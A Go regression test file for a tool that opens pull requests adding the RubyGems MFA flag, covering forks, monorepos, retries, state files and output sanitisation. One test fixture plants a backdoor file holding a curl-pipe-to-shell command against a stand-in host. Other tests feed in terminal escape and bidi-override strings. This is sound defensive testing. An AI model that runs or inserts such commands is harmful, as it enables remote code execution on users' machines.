package campaign

// Regression tests for defects an adversarial review of the campaign found
// (idempotence, what a pull request holds, untrusted text, state files).

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/mfaudit/mfaudit/campaign/githubtest"
)

// A gem links to a fork of a fork; the pull request must go to the root
// of the network (the real upstream), not to the intermediate fork.
func TestForkOfFork(t *testing.T) {
	w := newWorld(t)
	w.reg.release("deepgem", "1.0.0", src("https://github.com/leaf/deepgem"))
	w.gh.AddRepo(githubtest.Repo{Owner: "upstream", Name: "deepgem", Files: map[string]string{
		"deepgem.gemspec": indexSpec("deepgem"),
	}})
	w.gh.AddFork("upstream/deepgem", "middle", "deepgem")
	w.gh.AddFork("middle/deepgem", "leaf", "deepgem")
	p := w.plan("deepgem")
	for _, rp := range p.Repos {
		t.Logf("plan: repo=%s outcome=%s reason=%s", rp.Repo, rp.Outcome, rp.Reason)
		if rp.Repo != "upstream/deepgem" {
			t.Errorf("fork of a fork: the pull request targets %s, want upstream/deepgem", rp.Repo)
		}
	}
}

// The linked repository is a fork; reading its parent fails once (a 502).
// The campaign must not silently fall back to proposing the change to
// somebody's fork.
func TestForkParentReadFails(t *testing.T) {
	w := newWorld(t)
	w.reg.release("forkedgem", "2.1.0", src("https://github.com/someone/forkedgem"))
	w.gh.AddRepo(githubtest.Repo{Owner: "upstream", Name: "forkedgem", Files: map[string]string{
		"forkedgem.gemspec": indexSpec("forkedgem"),
	}})
	w.gh.AddFork("upstream/forkedgem", "someone", "forkedgem")
	w.gh.Script("GET", `^/api/v3/repos/upstream/forkedgem$`, 1, githubtest.Response{Status: 502, Body: `{"message":"Bad Gateway"}`})
	p := w.plan("forkedgem")
	for _, rp := range p.Repos {
		t.Logf("plan: repo=%s outcome=%s reason=%s", rp.Repo, rp.Outcome, rp.Reason)
		if strings.EqualFold(rp.Repo, "someone/forkedgem") && rp.Outcome == OutcomeOpen {
			t.Errorf("a failed read of the parent made the campaign target the fork someone/forkedgem (outcome %s)", rp.Outcome)
		}
	}
}

// monorepo: two gems in two gemspecs.
func seedDuo(w *world) {
	w.reg.release("duo-a", "1.0.0", src("https://github.com/acme/duo/tree/main/a"))
	w.reg.release("duo-b", "1.0.0", src("https://github.com/acme/duo/tree/main/b"))
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "duo", Files: map[string]string{
		"a/duo-a.gemspec": indexSpec("duo-a"),
		"b/duo-b.gemspec": indexSpec("duo-b"),
	}})
}

// --only duo-a crashes after the tree was created (the commit's answer is
// lost); the next run is for both gems. The pull request must carry both
// edits, or at least the commit must contain every file the PR claims.
func TestStaleTreeAfterNarrowerRun(t *testing.T) {
	w := newWorld(t)
	seedDuo(w)
	ctx, cancel := context.WithCancel(context.Background())
	fired := false
	w.gh.AfterWrite(func(n int, r githubtest.Request) githubtest.Action {
		if strings.HasSuffix(r.Path, "/git/commits") && !fired {
			fired = true
			cancel()
			return githubtest.DropResponse
		}
		return githubtest.Continue
	})
	if _, err := w.run(ctx, ApplyOptions{}, "duo-a"); err == nil {
		t.Fatal("the killed run succeeded")
	}
	cancel()
	p, err := w.run(context.Background(), ApplyOptions{}, "duo-a", "duo-b")
	if err != nil {
		t.Fatal(err)
	}
	rp := repoPlan(t, p, "acme/duo")
	t.Logf("second run: %s %s; edits %d", rp.Outcome, rp.Reason, len(rp.Edits))
	prs := w.gh.PRs("acme/duo")
	if len(prs) != 1 {
		t.Fatalf("PRs %+v", prs)
	}
	head := prs[0].HeadRepo
	a, _ := w.gh.File(head, DefaultBranch, "a/duo-a.gemspec")
	b, _ := w.gh.File(head, DefaultBranch, "b/duo-b.gemspec")
	t.Logf("PR title %q body marker: %v", prs[0].Title, strings.Contains(prs[0].Body, "gems=duo-a,duo-b"))
	if !strings.Contains(a, "rubygems_mfa_required") {
		t.Errorf("branch lacks duo-a's edit")
	}
	if !strings.Contains(b, "rubygems_mfa_required") {
		t.Errorf("the PR claims duo-a and duo-b, but its commit lacks duo-b's edit (a stale tree from the earlier --only run was reused)")
	}
}

// --only duo-a opens a PR for duo-a. A later run for both must not record
// duo-b as a gem of that PR, or status would wait for a release of duo-b
// that the PR never touched.
func TestStateGemsOverwrittenByLaterRun(t *testing.T) {
	w := newWorld(t)
	seedDuo(w)
	if _, err := w.run(context.Background(), ApplyOptions{}, "duo-a"); err != nil {
		t.Fatal(err)
	}
	st, _ := OpenState(w.state, false)
	before := st.Repos[repoKey("github.com", "acme/duo")].PRGems
	p, err := w.run(context.Background(), ApplyOptions{}, "duo-a", "duo-b")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("second run: %v", outcomes(p))
	st, _ = OpenState(w.state, false)
	after := st.Repos[repoKey("github.com", "acme/duo")].PRGems
	t.Logf("state gems of PR #1: before %v, after %v", before, after)
	if strings.Join(before, ",") != "duo-a" || strings.Join(before, ",") != strings.Join(after, ",") {
		t.Errorf("the state's gems of PR #%d changed from %v to %v though the PR is unchanged", st.Repos[repoKey("github.com", "acme/duo")].PullRequest.Number, before, after)
	}
	// Merge it and release duo-a with the flag: the PR's work is done.
	prs := w.gh.PRs("acme/duo")
	w.gh.SetPRState("acme/duo", prs[0].Number, "", true)
	w.reg.release("duo-a", "1.0.1", map[string]string{"rubygems_mfa_required": "true"})
	ss, err := w.campaign(Options{}).Status(context.Background(), st)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range ss {
		t.Logf("status %s #%d %s: %s", s.Repo, s.Number, s.State, s.Detail)
		if s.State != PRReleased {
			t.Errorf("status of a merged and released PR for duo-a is %q (%s)", s.State, s.Detail)
		}
	}
}

// A state file that records pull requests on two forges: status must only
// follow those of the forge it talks to.
func TestStatusIgnoresForgeHost(t *testing.T) {
	w := newWorld(t)
	seedFleet(w)
	if _, err := w.run(context.Background(), ApplyOptions{}, "widget"); err != nil {
		t.Fatal(err)
	}
	st, err := OpenState(w.state, false)
	if err != nil {
		t.Fatal(err)
	}
	// Add an entry from another forge (as written by a run with
	// --github-url https://ghe.corp.example).
	other := *st.Repos[repoKey("github.com", "acme/widget")]
	other.Forge = "ghe.corp.example"
	other.Repo = "acme/opengem"
	pr := *other.PullRequest
	pr.Number = 999
	other.PullRequest = &pr
	st.Repos[repoKey("ghe.corp.example", "acme/opengem")] = &other
	if err := st.Save(); err != nil {
		t.Fatal(err)
	}
	before := len(w.gh.Requests())
	ss, err := w.campaign(Options{}).Status(context.Background(), st)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range ss {
		t.Logf("status %s #%d %s %s", s.Repo, s.Number, s.State, s.Detail)
		if s.Number == 999 {
			t.Errorf("status asked github.com about a pull request recorded for ghe.corp.example")
		}
	}
	for _, r := range w.gh.Requests()[before:] {
		if strings.Contains(r.Path, "/pulls/999") {
			t.Logf("request %s %s", r.Method, r.Path)
		}
	}
}

// A hand-edited or damaged state file with a null repository entry.
func TestStateNullEntry(t *testing.T) {
	w := newWorld(t)
	if err := os.WriteFile(w.state, []byte(`{"schema":"mfaudit-campaign/v1","repositories":{"github.com/acme/widget":null}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenState(w.state, false); err == nil || !strings.Contains(err.Error(), "is empty") {
		t.Errorf("OpenState of a state with a null entry: %v, want an error naming the entry", err)
	}
}

// The token can push to the repository (in place). The campaign's branch
// already exists and holds the edit, plus an unrelated file somebody else
// added. "resume" then opens a pull request under the viewer's name that
// carries the unrelated change.
func TestResumeBranchWithExtraContent(t *testing.T) {
	w := newWorld(t)
	w.reg.release("teamgem", "1.0.0", src("https://github.com/team/teamgem"))
	w.gh.AddRepo(githubtest.Repo{Owner: "team", Name: "teamgem", Pushers: []string{viewerLogin}, Files: map[string]string{
		"teamgem.gemspec": indexSpec("teamgem"),
	}})
	// Plan to learn the edited content, then craft a branch holding it and
	// an extra file.
	p := w.plan("teamgem")
	rp := repoPlan(t, p, "team/teamgem")
	if rp.Outcome != OutcomeOpen || len(rp.Edits) != 1 {
		t.Fatalf("plan %s %s", rp.Outcome, rp.Reason)
	}
	f := w.forge()
	ctx := context.Background()
	b1, _ := f.CreateBlob(ctx, "team/teamgem", rp.Edits[0].New)
	b2, _ := f.CreateBlob(ctx, "team/teamgem", []byte("system('curl evil | sh')\n"))
	tree, err := f.CreateTree(ctx, "team/teamgem", rp.Base.Tree, []TreeFile{
		{Path: "teamgem.gemspec", Mode: "100644", SHA: b1},
		{Path: "lib/backdoor.rb", Mode: "100644", SHA: b2},
	})
	if err != nil {
		t.Fatal(err)
	}
	commit, err := f.CreateCommit(ctx, "team/teamgem", NewCommit{Message: "x\n", Tree: tree, Parents: []string{rp.Base.Commit},
		Author: Signature{Name: "other", Email: "o@example.com", When: w.clock.now()}})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.CreateBranch(ctx, "team/teamgem", DefaultBranch, commit); err != nil {
		t.Fatal(err)
	}
	p, err = w.run(ctx, ApplyOptions{}, "teamgem")
	if err != nil {
		t.Fatal(err)
	}
	rp = repoPlan(t, p, "team/teamgem")
	t.Logf("run: %s %s", rp.Outcome, rp.Reason)
	if _, ok := w.gh.File("team/teamgem", DefaultBranch, "lib/backdoor.rb"); ok && rp.Outcome == OutcomeOpened {
		t.Errorf("the campaign opened a pull request from an existing branch that also adds lib/backdoor.rb")
	}
}

// An orphan branch holding only the edited gemspec: a PR from it would
// delete every other file of the repository.
func TestResumeOrphanBranch(t *testing.T) {
	w := newWorld(t)
	w.reg.release("teamgem", "1.0.0", src("https://github.com/team/teamgem"))
	w.gh.AddRepo(githubtest.Repo{Owner: "team", Name: "teamgem", Pushers: []string{viewerLogin}, Files: map[string]string{
		"teamgem.gemspec": indexSpec("teamgem"), "lib/teamgem.rb": "module Teamgem; end\n",
	}})
	p := w.plan("teamgem")
	rp := repoPlan(t, p, "team/teamgem")
	f := w.forge()
	ctx := context.Background()
	b1, _ := f.CreateBlob(ctx, "team/teamgem", rp.Edits[0].New)
	tree, err := f.CreateTree(ctx, "team/teamgem", "", []TreeFile{{Path: "teamgem.gemspec", Mode: "100644", SHA: b1}})
	if err != nil {
		t.Fatal(err)
	}
	commit, err := f.CreateCommit(ctx, "team/teamgem", NewCommit{Message: "orphan\n", Tree: tree,
		Author: Signature{Name: "other", Email: "o@example.com", When: w.clock.now()}})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.CreateBranch(ctx, "team/teamgem", DefaultBranch, commit); err != nil {
		t.Fatal(err)
	}
	p2 := w.plan("teamgem")
	rp = repoPlan(t, p2, "team/teamgem")
	t.Logf("plan with an orphan branch: %s %s", rp.Outcome, rp.Reason)
	if rp.Outcome == OutcomeResume {
		t.Errorf("an orphan branch (no common history, only the gemspec) is taken as the campaign's edit: the PR would delete lib/teamgem.rb")
	}
}

// Terminal-unsafe text that Sanitize once let through.
func TestSanitizeGaps(t *testing.T) {
	for _, s := range []string{
		"evil\x9b31mred",  // a raw C1 CSI byte, invalid UTF-8
		"ab\u061ccd",      // ARABIC LETTER MARK, a bidi control
		"line\u2028sep",   // LINE SEPARATOR
		"zero\u200bwidth", // ZERO WIDTH SPACE (spoofing)
		"bom\ufeffhere",   // ZERO WIDTH NO-BREAK SPACE
	} {
		got := safe(s)
		if got == s {
			t.Errorf("safe(%q) = %q unchanged", s, got)
		}
	}
}

// A bidi override from a gem's metadata must not reach stdout raw, in the
// table or in --format json.
func TestJSONBidi(t *testing.T) {
	w := newWorld(t)
	w.reg.release("bidigem", "1.0.0", map[string]string{"homepage_uri": "https://example.org/\u202eevil"})
	p := w.plan("bidigem")
	var b strings.Builder
	if err := WritePlan(&b, p, "json", false); err != nil {
		t.Fatal(err)
	}
	if !json.Valid([]byte(b.String())) {
		t.Errorf("invalid JSON")
	}
	if strings.ContainsRune(b.String(), '\u202e') {
		t.Errorf("JSON carries a raw U+202E from registry metadata")
	}
	var tb strings.Builder
	_ = WritePlan(&tb, p, "table", false)
	if strings.ContainsRune(tb.String(), '\u202e') {
		t.Errorf("table carries a raw U+202E")
	}
}

// In a monorepo, reading one gem's gemspec fails (a 502). The plan must
// not quietly open a pull request for the other gem only (one PR per
// repository, ever, leaves the failed gem out for good), and the error must
// count (exit 1).
func TestMonorepoOneGemReadFails(t *testing.T) {
	w := newWorld(t)
	seedDuo(w)
	reads := 0
	f := w.forge()
	ff := &failNthBlob{Forge: f, n: 2, count: &reads}
	st, _ := OpenState(w.state, true)
	defer st.Close()
	c := w.campaign(Options{Forge: ff})
	p, err := c.Plan(context.Background(), targets("duo-a", "duo-b"), st)
	if err != nil {
		t.Fatal(err)
	}
	rp := repoPlan(t, p, "acme/duo")
	t.Logf("plan: repo %s: %s; gems %v; summary %+v", rp.Outcome, rp.Reason, outcomes(p), p.Summary)
	if p.Summary.Errors == 0 {
		t.Errorf("a gem whose gemspec could not be read is not counted as an error (the run would exit 0)")
	}
	if rp.Outcome == OutcomeOpen {
		t.Errorf("the repository's one pull request would be opened without duo-b, whose read failed")
	}
}

type failNthBlob struct {
	Forge
	n     int
	count *int
}

func (f *failNthBlob) Blob(ctx context.Context, repo, sha string) ([]byte, error) {
	*f.count++
	if *f.count == f.n {
		return nil, errors.New("blob: 502 Bad Gateway")
	}
	return f.Forge.Blob(ctx, repo, sha)
}

// Someone's merged PR fixed one gem of a monorepo; the other gem still
// lacks the flag.
func TestMonorepoMergedPRForOtherGem(t *testing.T) {
	w := newWorld(t)
	w.reg.release("duo-a", "1.0.0", src("https://github.com/acme/duo/tree/main/a"))
	w.reg.release("duo-b", "1.0.0", src("https://github.com/acme/duo/tree/main/b"))
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "duo", Files: map[string]string{
		"a/duo-a.gemspec": requiredSpec("duo-a"),
		"b/duo-b.gemspec": indexSpec("duo-b"),
	}})
	w.gh.AddPR("acme/duo", githubtest.PR{Title: "duo-a: set rubygems_mfa_required", User: "helper", HeadOwner: "helper", HeadRef: "x", Merged: true})
	p := w.plan("duo-a", "duo-b")
	rp := repoPlan(t, p, "acme/duo")
	o := outcomes(p)
	if o["duo-a"] != OutcomeFixedUpstream || o["duo-b"] != OutcomePRMerged || !strings.Contains(rp.Reason, "does not set the flag for duo-b") {
		t.Errorf("plan: %v; %s: %s", o, rp.Outcome, rp.Reason)
	}
}

// Two gems defined in one gemspec file (platform variants).
func TestTwoSpecsOneFile(t *testing.T) {
	w := newWorld(t)
	w.reg.release("twin", "1.0.0", src("https://github.com/acme/twin"))
	w.reg.release("twin-ext", "1.0.0", src("https://github.com/acme/twin"))
	spec := "[['twin', 'Twin'], ['twin-ext', 'Ext']].each do |n, d|\nend\n\nGem::Specification.new do |s|\n  s.name = 'twin'\n  s.version = '1.0.0'\n  s.summary = 'x'\n  s.authors = ['a']\n  s.files = []\nend\n\nGem::Specification.new do |s|\n  s.name = 'twin-ext'\n  s.version = '1.0.0'\n  s.summary = 'x'\n  s.authors = ['a']\n  s.files = []\nend\n"
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "twin", Files: map[string]string{"twin.gemspec": spec}})
	p := w.plan("twin", "twin-ext")
	rp := repoPlan(t, p, "acme/twin")
	t.Logf("plan: %s: %s; %v", rp.Outcome, rp.Reason, outcomes(p))
	for _, e := range rp.Edits {
		t.Logf("diff:\n%s", e.Diff)
		if strings.Count(string(e.New), "rubygems_mfa_required") != 2 {
			t.Errorf("one file, two specs: %d flags inserted, want 2", strings.Count(string(e.New), "rubygems_mfa_required"))
		}
	}
}

// A CRLF gemspec: the inserted line must end in CRLF too.
func TestCRLFGemspec(t *testing.T) {
	w := newWorld(t)
	w.reg.release("crlf", "1.0.0", src("https://github.com/acme/crlf"))
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "crlf", Files: map[string]string{
		"crlf.gemspec": strings.ReplaceAll(indexSpec("crlf"), "\n", "\r\n"),
	}})
	p := w.plan("crlf")
	rp := repoPlan(t, p, "acme/crlf")
	t.Logf("plan: %s: %s", rp.Outcome, rp.Reason)
	for _, e := range rp.Edits {
		n := string(e.New)
		if strings.Count(n, "\n") != strings.Count(n, "\r\n") {
			t.Errorf("mixed line endings after the edit: %d LF, %d CRLF", strings.Count(n, "\n"), strings.Count(n, "\r\n"))
		}
		t.Logf("diff: %q", e.Diff)
	}
}

// A Latin-1 gemspec (author name in ISO-8859-1).
func TestLatin1Gemspec(t *testing.T) {
	w := newWorld(t)
	w.reg.release("latin", "1.0.0", src("https://github.com/acme/latin"))
	spec := strings.Replace(indexSpec("latin"), "Ann Example", "Ren\xe9 M\xfcller", 1)
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "latin", Files: map[string]string{"latin.gemspec": spec}})
	p := w.plan("latin")
	rp := repoPlan(t, p, "acme/latin")
	t.Logf("plan: %s: %s", rp.Outcome, rp.Reason)
	for _, e := range rp.Edits {
		if !strings.Contains(string(e.New), "Ren\xe9 M\xfcller") {
			t.Errorf("the edit changed the Latin-1 bytes")
		}
		var tb strings.Builder
		_ = WritePlan(&tb, p, "table", false)
		var jb strings.Builder
		_ = WritePlan(&jb, p, "json", false)
		if !json.Valid([]byte(jb.String())) {
			t.Errorf("JSON invalid")
		}
	}
}

// A gemspec whose name is computed from its file name.
func TestComputedName(t *testing.T) {
	w := newWorld(t)
	w.reg.release("computedname", "1.0.0", src("https://github.com/acme/computedname"))
	spec := strings.Replace(indexSpec("computedname"), `spec.name = "computedname"`, `spec.name = File.basename(__FILE__, ".gemspec")`, 1)
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "computedname", Files: map[string]string{"computedname.gemspec": spec}})
	p := w.plan("computedname")
	rp := repoPlan(t, p, "acme/computedname")
	if rp.Outcome != OutcomeNoGemspec {
		t.Errorf("a gemspec whose name is computed: %s (%s), want no-gemspec: mfaudit never guesses", rp.Outcome, rp.Reason)
	}
}

// Default branch "master", gemspec nested, a copy under vendor/.
func TestMasterNestedVendor(t *testing.T) {
	w := newWorld(t)
	w.reg.release("nested", "1.0.0", src("https://github.com/acme/nested"))
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "nested", DefaultBranch: "master", Files: map[string]string{
		"vendor/nested/nested.gemspec": indexSpec("nested"),
		"gems/nested/nested.gemspec":   indexSpec("nested"),
		"spec/fixtures/nested.gemspec": indexSpec("nested"),
	}})
	p, err := w.run(context.Background(), ApplyOptions{}, "nested")
	if err != nil {
		t.Fatal(err)
	}
	rp := repoPlan(t, p, "acme/nested")
	t.Logf("run: %s: %s; edits %v", rp.Outcome, rp.Reason, rp.Edits[0].Path)
	prs := w.gh.PRs("acme/nested")
	if len(prs) != 1 || prs[0].BaseRef != "master" || rp.Edits[0].Path != "gems/nested/nested.gemspec" {
		t.Errorf("PRs %+v", prs)
	}
}

// The same repository reached through its old name (one gem) and its new
// name (another): one pull request.
func TestRenamedTwoLinks(t *testing.T) {
	w := newWorld(t)
	w.reg.release("ren-a", "1.0.0", src("https://github.com/old/ren"))
	w.reg.release("ren-b", "1.0.0", src("https://github.com/New/Ren"))
	w.gh.AddRepo(githubtest.Repo{Owner: "old", Name: "ren", Files: map[string]string{
		"ren-a.gemspec": indexSpec("ren-a"), "ren-b.gemspec": indexSpec("ren-b"),
	}})
	w.gh.Rename("old/ren", "new/ren")
	p, err := w.run(context.Background(), ApplyOptions{}, "ren-a", "ren-b")
	if err != nil {
		t.Fatal(err)
	}
	for _, rp := range p.Repos {
		t.Logf("run: %s %s: %s", rp.Repo, rp.Outcome, rp.Reason)
	}
	if n := len(w.gh.PRs("new/ren")); n != 1 {
		t.Errorf("%d PRs", n)
	}
}

// A transient failure after a write took effect, with retries on: no
// duplicate fork, branch or pull request.
func TestRetriedWritesNoDuplicates(t *testing.T) {
	for _, suffix := range []string{"/forks", "/git/refs", "/pulls"} {
		t.Run(suffix, func(t *testing.T) {
			w := newWorld(t)
			seedFleet(w)
			f, err := NewGitHub(GitHubOptions{URL: w.gh.URL(), Token: "tok", WriteInterval: time.Millisecond,
				SearchInterval: time.Millisecond, ReadInterval: time.Microsecond, ForkPoll: time.Millisecond, Retries: 2})
			if err != nil {
				t.Fatal(err)
			}
			f.(*gitHub).sleep = func(context.Context, time.Duration) error { return nil }
			fired := false
			w.gh.AfterWrite(func(n int, r githubtest.Request) githubtest.Action {
				if strings.HasSuffix(r.Path, suffix) && !fired {
					fired = true
					return githubtest.DropResponse
				}
				return githubtest.Continue
			})
			st, _ := OpenState(w.state, true)
			defer st.Close()
			c := w.campaign(Options{Forge: f})
			p, err := c.Plan(context.Background(), targets("widget"), st)
			if err != nil {
				t.Fatal(err)
			}
			err = c.Apply(context.Background(), p, st, ApplyOptions{})
			rp := repoPlan(t, p, "acme/widget")
			t.Logf("apply: %v; %s %s", err, rp.Outcome, rp.Reason)
			if rp.Outcome != OutcomeOpened {
				t.Errorf("a dropped answer to %s, retried, failed the repository: %s", suffix, rp.Reason)
			}
			checkOne(t, w, "acme/widget")
		})
	}
}

// GitHub's search may time out and answer incomplete_results: true with
// fewer hits. A declined PR can then be missed; the plan must not treat
// an incomplete answer as "no pull request about the flag".
func TestSearchIncompleteResults(t *testing.T) {
	w := newWorld(t)
	seedFleet(w)
	w.gh.Script("GET", `/search/issues$`, -1, githubtest.Response{Status: 200,
		Body: `{"total_count":1,"incomplete_results":true,"items":[]}`})
	p := w.plan("declinedgem")
	rp := repoPlan(t, p, "acme/declinedgem")
	t.Logf("plan: %s: %s", rp.Outcome, rp.Reason)
	if rp.Outcome == OutcomeOpen {
		t.Errorf("an incomplete search answer was taken as complete: a PR would be opened where one was declined")
	}
}

// The gem's metadata names a fork (the maintained one) whose parent is
// archived: the fork is where the gem goes on, so it is kept.
func TestForkOfArchivedParent(t *testing.T) {
	w := newWorld(t)
	w.reg.release("revived", "3.0.0", src("https://github.com/newmaint/revived"))
	w.gh.AddRepo(githubtest.Repo{Owner: "oldmaint", Name: "revived", Archived: true, Files: map[string]string{
		"revived.gemspec": indexSpec("revived"),
	}})
	w.gh.AddFork("oldmaint/revived", "newmaint", "revived")
	p := w.plan("revived")
	for _, rp := range p.Repos {
		t.Logf("plan: %s %s: %s", rp.Repo, rp.Outcome, rp.Reason)
		if rp.Outcome == OutcomeArchived {
			t.Errorf("the gem's own link names the live fork newmaint/revived, but the campaign replaced it with the archived parent and skipped")
		}
	}
}

// The viewer already has a fork of the repository under another name.
func TestExistingForkOtherName(t *testing.T) {
	w := newWorld(t)
	seedFleet(w)
	w.gh.AddFork("acme/widget", viewerLogin, "widget-fork")
	p, err := w.run(context.Background(), ApplyOptions{}, "widget")
	if err != nil {
		t.Fatal(err)
	}
	rp := repoPlan(t, p, "acme/widget")
	t.Logf("run: %s %s", rp.Outcome, rp.Reason)
	prs := w.gh.PRs("acme/widget")
	if len(prs) != 1 || prs[0].HeadRepo != viewerLogin+"/widget-fork" {
		t.Errorf("PRs %+v; repos %v", prs, w.gh.Repos())
	}
}

// A repository renamed between two runs: status must list its one pull
// request once.
func TestRenamedBetweenRuns(t *testing.T) {
	w := newWorld(t)
	seedFleet(w)
	if _, err := w.run(context.Background(), ApplyOptions{}, "widget"); err != nil {
		t.Fatal(err)
	}
	w.gh.Rename("acme/widget", "acme-org/widget")
	w.reg.release("widget", "1.4.0", src("https://github.com/acme-org/widget"))
	p, err := w.run(context.Background(), ApplyOptions{}, "widget")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("second run: %v", outcomes(p))
	st, _ := OpenState(w.state, false)
	ss, err := w.campaign(Options{}).Status(context.Background(), st)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range ss {
		t.Logf("status %s #%d %s", s.Repo, s.Number, s.State)
	}
	if len(ss) != 1 {
		t.Errorf("status lists %d pull requests for one", len(ss))
	}
}

// A spoofed marker: somebody else's open PR whose body carries mfaudit's
// marker becomes "ours" and is recorded in the state as the campaign's.
func TestMarkerSpoof(t *testing.T) {
	w := newWorld(t)
	seedFleet(w)
	w.gh.AddPR("acme/widget", githubtest.PR{Title: "Totally legit", Body: "rubygems_mfa_required <!-- mfaudit:v1 gems=widget -->",
		User: "mallory", HeadOwner: "mallory", HeadRef: "x", State: "open"})
	p, err := w.run(context.Background(), ApplyOptions{}, "widget")
	if err != nil {
		t.Fatal(err)
	}
	rp := repoPlan(t, p, "acme/widget")
	if rp.Outcome != OutcomePROpen || rp.Ours {
		t.Errorf("a pasted marker: %s ours=%v (%s), want somebody's open pull request", rp.Outcome, rp.Ours, rp.Reason)
	}
	st, _ := OpenState(w.state, false)
	if rs := st.Repos[repoKey("github.com", "acme/widget")]; rs != nil && rs.PullRequest != nil {
		t.Errorf("the state records PR #%d by %s as the campaign's", rs.PullRequest.Number, rs.PullRequest.Author)
	}
}

// --format json prints registry and gemspec text unsanitised: a C1 CSI
// (U+009B) or a bidi override from a gem's metadata or a gemspec reaches
// the terminal raw (encoding/json escapes only C0 controls).
func TestJSONRawUntrusted(t *testing.T) {
	w := newWorld(t)
	w.reg.release("c1gem", "1.0.0", map[string]string{"homepage_uri": "https://example.org/\u009b2J\u202eevil"})
	w.reg.release("compgem", "1.0.0", src("https://github.com/acme/compgem"))
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "compgem", Files: map[string]string{
		"compgem.gemspec": "Gem::Specification.new do |spec|\n  spec.name = 'compgem'\n  spec.version = '1.0.0'\n  spec.metadata = Meta.for(\"\u009b2J\u202e\")\nend\n",
	}})
	p := w.plan("c1gem", "compgem")
	var b strings.Builder
	if err := WritePlan(&b, p, "json", false); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, r := range []rune{'\u009b', '\u202e'} {
		if strings.ContainsRune(out, r) {
			t.Errorf("plan JSON carries a raw %U from untrusted text", r)
		}
	}
	var tb strings.Builder
	_ = WritePlan(&tb, p, "table", false)
	if strings.ContainsAny(tb.String(), "\u009b\u202e") {
		t.Errorf("table carries it raw")
	}
	for _, rp := range p.Repos {
		for _, g := range rp.Gems {
			t.Logf("%s %s: %q", g.Gem, g.Outcome, g.Reason)
		}
	}
}

// A gemspec with a raw 0x9B byte (an 8-bit CSI, invalid UTF-8) next to the
// edit: the diff in the plan's table prints it raw, since Sanitize only
// looks at decoded runes.
func TestDiffRawC1Byte(t *testing.T) {
	w := newWorld(t)
	w.reg.release("bytegem", "1.0.0", src("https://github.com/acme/bytegem"))
	spec := strings.Replace(indexSpec("bytegem"), `spec.metadata["homepage_uri"] = spec.homepage`, "spec.metadata[\"homepage_uri\"] = \"\x9b2J\x9b31mhi\"", 1)
	w.gh.AddRepo(githubtest.Repo{Owner: "acme", Name: "bytegem", Files: map[string]string{"bytegem.gemspec": spec}})
	p := w.plan("bytegem")
	rp := repoPlan(t, p, "acme/bytegem")
	t.Logf("plan %s: %s", rp.Outcome, rp.Reason)
	var tb strings.Builder
	_ = WritePlan(&tb, p, "table", false)
	if strings.Contains(tb.String(), "\x9b") {
		t.Errorf("the table (diff) carries a raw 0x9B byte (8-bit CSI) from the gemspec")
	}
}

// --only duo-a, then (after the PR is merged) a run for duo-b: duo-b is
// never proposed, and the reason claims main lacks the flag although
// duo-a's gemspec has it.
func TestOnlyThenOtherGemAfterMerge(t *testing.T) {
	w := newWorld(t)
	seedDuo(w)
	if _, err := w.run(context.Background(), ApplyOptions{}, "duo-a"); err != nil {
		t.Fatal(err)
	}
	p := w.plan("duo-b")
	rp := repoPlan(t, p, "acme/duo")
	t.Logf("while #1 (duo-a only) is open, duo-b: %s: %s", rp.Outcome, rp.Reason)
	prs := w.gh.PRs("acme/duo")
	w.gh.SetPRState("acme/duo", prs[0].Number, "", true)
	p = w.plan("duo-b")
	rp = repoPlan(t, p, "acme/duo")
	t.Logf("after #1 merged, duo-b: %s: %s", rp.Outcome, rp.Reason)
	// One pull request per repository, ever: duo-b is not proposed
	// again, and the reason says why and what to do.
	if rp.Outcome != OutcomePRMerged || !strings.Contains(rp.Reason, "it covers duo-a, not duo-b") {
		t.Errorf("after #1 merged, duo-b: %s: %s", rp.Outcome, rp.Reason)
	}
}
